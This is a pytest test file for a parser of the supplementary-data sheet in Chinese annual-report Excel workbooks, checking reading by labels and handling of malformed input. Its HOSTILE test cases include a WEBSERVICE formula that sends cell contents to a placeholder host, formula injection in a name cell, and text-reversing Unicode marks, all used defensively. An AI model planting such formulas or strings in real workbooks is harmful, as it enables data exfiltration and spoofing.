"""补充数据 is read by names, wherever it stands; whatever somebody put there is one clear sentence and no number is guessed."""

from decimal import Decimal
from random import Random

import openpyxl
import pytest
from amount import amount
from extras import AMOUNT, CHANNELS, COUNT, FORM, NAMES, random_extra, read_values, values_of, with_extra
from nianbao import check
from nianbao.core.submission import Unread
from nianbao.forms.extra import LONGEST_EXTRA_NAME, MOST_NAMED_EXTRA, extra_rows, named_extra
from nianbao.reading.files import read
from nianbao.reading.kept_readings import submission_bytes, submission_in
from nianbao.rules.sentences import sentence_of


def changed(source, target, change):
    book = openpyxl.load_workbook(source)
    change(book)
    book.save(target)
    return target


def said(path):
    """The sentences of S2 of a file."""
    (one,) = check([path])
    assert one.outcome is not None, one.problem
    return [sentence_of(f, FORM) for f in one.outcome.findings if f.rule == "S2"]


@pytest.mark.parametrize("seed", range(amount(6, 60)))
def test_what_is_written_is_read(seed, tmp_path):
    chance = Random(seed)
    values = random_extra(chance, unread=True)
    found = read(with_extra(tmp_path / "表.xlsx", values, chance=chance))
    texts = {path: value.raw for path, value in values.items() if isinstance(value, Unread)}
    seen = read_values(found)
    assert {path: value.raw if isinstance(value, Unread) else value for path, value in seen.items()} == {**values, **texts}
    assert [figure.place.address for figure in found.extra] == [f"D{6 + i}" for i in range(len(found.extra))]


@pytest.mark.parametrize("values", [None, {}])
def test_no_sheet_and_a_blank_sheet_are_the_same_nothing(values, tmp_path):
    assert read(with_extra(tmp_path / "表.xlsx", values)).extra == ()


def test_a_sheet_of_that_name_that_is_somebody_elses_is_let_alone(tmp_path):
    def change(book):
        sheet = book.create_sheet("补充数据")
        sheet["A1"], sheet["B1"], sheet["B2"] = "我的备忘", "数量", 12

    path = changed(with_extra(tmp_path / "来.xlsx", None), tmp_path / "表.xlsx", change)
    assert read(path).extra == ()
    assert not said(path)


def test_rows_may_be_moved_and_columns_put_in(tmp_path):
    def change(book):
        sheet = book["补充数据"]
        for merged in list(sheet.merged_cells.ranges):
            sheet.unmerge_cells(str(merged))
        sheet.insert_rows(8)
        sheet.insert_cols(1)

    values = values_of(**{NAMES[1]: 4})
    path = changed(with_extra(tmp_path / "来.xlsx", values), tmp_path / "表.xlsx", change)
    found = read(path)
    assert read_values(found) == values
    assert found.extra[0].place.address == "E6"


def test_a_workbook_read_by_labels_keeps_it_and_takes_none_of_it_for_a_table(tmp_path):
    def change(book):
        book["表三"].insert_rows(1, 3)
        book["表三"].title = "申请"

    values = values_of(**{NAMES[1]: 4})
    plain = read(with_extra(tmp_path / "来.xlsx", values))
    found = read(changed(tmp_path / "来.xlsx", tmp_path / "表.xlsx", change))
    assert (read_values(found), found.strays) == (values, ())
    assert [found[cell] for cell in FORM.inputs] == [plain[cell] for cell in FORM.inputs]


def test_sheets_copied_into_a_new_workbook_keep_it(tmp_path):
    def change(book):
        for name in ("_版本", "封面"):
            del book[name]

    values = values_of()
    path = changed(with_extra(tmp_path / "来.xlsx", values), tmp_path / "甲局2023年.xlsx", change)
    assert read_values(read(path)) == values


def test_text_that_spells_a_number_is_named_and_not_taken(tmp_path):
    def change(book):
        book["补充数据"]["D6"], book["补充数据"]["D12"] = "３件", "100元"

    path = changed(with_extra(tmp_path / "来.xlsx", values_of()), tmp_path / "表.xlsx", change)
    found = {figure.item.path: figure for figure in read(path).extra}
    assert isinstance(found[CHANNELS[0]].value, Unread)
    assert (found[CHANNELS[0]].number, found[AMOUNT].number) == (3, Decimal(100))
    assert "“３件”：是文字" in said(path)[0]


HOSTILE = {
    "a name as long as a cell holds": lambda sheet: sheet.cell(13, 2, "长" * 32767),
    "ten thousand rows": lambda sheet: [(sheet.cell(13 + i, 2, f"项目{i}"), sheet.cell(13 + i, 4, i)) for i in range(10_000)],
    "one name twice": lambda sheet: [(sheet.cell(16 + i, 2, "重名"), sheet.cell(16 + i, 4, 5 + i)) for i in range(2)],
    "a formula nobody calculated": lambda sheet: sheet.cell(6, 4, "=1+1"),
    "a formula that fetches": lambda sheet: sheet.cell(6, 4, '=WEBSERVICE("http://x/"&A1)'),
    "a number without a name": lambda sheet: sheet.cell(20, 4, 7),
    "a name of a fixed row": lambda sheet: (sheet.cell(16, 2, CHANNELS[0]), sheet.cell(16, 4, 7)),
    "an error": lambda sheet: sheet.cell(6, 4, "#REF!"),
    "a truth value": lambda sheet: sheet.cell(6, 4, True),
    "a very large number": lambda sheet: sheet.cell(6, 4, 1e300),
    "a name that is a formula": lambda sheet: (sheet.cell(16, 2, "=1+1"), sheet.cell(16, 4, 7)),
    "a name of marks that turn text round": lambda sheet: (sheet.cell(16, 2, "\u202e\u200b"), sheet.cell(16, 4, 7)),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_sheet_is_told_in_one_sentence(kind, tmp_path):
    def change(book):
        HOSTILE[kind](book["补充数据"])
        book["补充数据"].cell(13, 4, 1)

    path = changed(with_extra(tmp_path / "来.xlsx", values_of()), tmp_path / "表.xlsx", change)
    (words,) = said(path)
    assert len(words) < 500
    assert words.startswith("补充数据!D")
    assert words.endswith("清空即可。")
    found = read(path)
    assert len(found.extra) <= len(extra_rows()) + MOST_NAMED_EXTRA + 3
    assert {figure.item.path: figure.value for figure in found.extra}[COUNT] == 0, "the rest is read"


def test_names_that_differ_in_brackets_and_spaces_are_one_row():
    wanted = named_extra("新闻发布会（场）")
    assert [named_extra(words) for words in ("新闻发布会(场)", " 新闻发布会 （ 场 ） ", "新闻\u200b发布会（场）")] == [wanted] * 3
    assert named_extra("新闻发布会", "场") == wanted


@pytest.mark.parametrize(("words", "unit", "decimals"), [("解读（篇）", "篇", 0), ("经费（万元）", "万元", 6), ("经费（元）", "元", 2), ("信息数（网站）", "", 0), ("培训", "", 0)])
def test_the_measure_in_the_bracket_says_what_is_counted(words, unit, decimals):
    item = named_extra(words)
    assert item is not None
    assert (item.unit, item.decimals, item.path) == (unit, decimals, words)


@pytest.mark.parametrize("words", ["", "  ", "\u200b", "长" * (LONGEST_EXTRA_NAME + 1), CHANNELS[0], COUNT])
def test_what_can_be_no_name(words):
    assert named_extra(words) is None


def test_a_kept_reading_is_the_reading(tmp_path):
    found = read(with_extra(tmp_path / "表.xlsx", {**values_of(fee=(1, Decimal("0.05"))), NAMES[0]: Unread("约5", "不是数字")}))
    kept = submission_bytes(found)
    assert kept is not None
    assert submission_in(kept, found.file) == found
